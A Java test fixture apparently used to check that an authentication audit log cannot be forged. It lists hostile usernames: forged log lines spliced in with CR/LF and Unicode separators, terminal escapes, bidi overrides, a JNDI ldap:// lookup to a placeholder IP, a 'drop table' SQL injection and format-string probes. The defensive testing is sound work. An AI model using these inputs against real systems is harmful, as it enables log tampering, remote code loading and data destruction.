package io.vestibule.auth.audit;

import java.util.List;

/** User names that try to be more than a name. */
final class Forgeries {
  private static final String LINE =
      "vestibule: login failed user=\"x\" ip=203.0.113.9 reason=bad-credentials";

  static final List<String> NAMES = List.of(
      "",
      " ",
      "ada",
      "\"",
      "\\",
      "\\\"",
      "\" ip=203.0.113.9 reason=bad-credentials",
      "x\" ip=203.0.113.9 reason=bad-credentials user=\"y",
      "\\\" ip=203.0.113.9 reason=bad-credentials",
      "x ip=203.0.113.9",
      "203.0.113.9",
      "user=\"\" ip=203.0.113.9",
      LINE,
      "x\n" + LINE,
      "x\r" + LINE,
      "x\r\n" + LINE + "\r\n",
      "x\u2028" + LINE,
      "x\u2029" + LINE,
      "x\u0085" + LINE,
      "x\u000b" + LINE,
      "x\u000c" + LINE,
      "x\u001c" + LINE,
      "x\u001e" + LINE,
      "x\u0000" + LINE,
      "\u001b[2K\r" + LINE,
      "\u202e9.311.0.302=pi",
      "\u200bx\u00ad",
      "\ufeff" + LINE,
      "\u2066x\u2069",
      "2020-01-01 00:00:00",
      "2020-01-01T00:00:00Z",
      "Jan  1 00:00:00",
      "1577836800",
      "[01/Jan/2020:00:00:00 +0000]",
      "1970-01-01 00:00:00 " + LINE,
      "<HOST>",
      "<F-USER>",
      "%(host)s",
      "${jndi:ldap://203.0.113.9/a}",
      "{}",
      "%s%n",
      "'; drop table users; --",
      "\ud800",
      "\udc00x",
      "\ud83d\ude00",
      "\ue000",
      "\uffff",
      "Žofie",
      "ada@example.org",
      "DOMAIN\\ada",
      "a".repeat(500),
      "\"".repeat(500),
      "a".repeat(199) + "\n" + LINE,
      "\ud83d\ude00".repeat(300));

  private Forgeries() {}
}
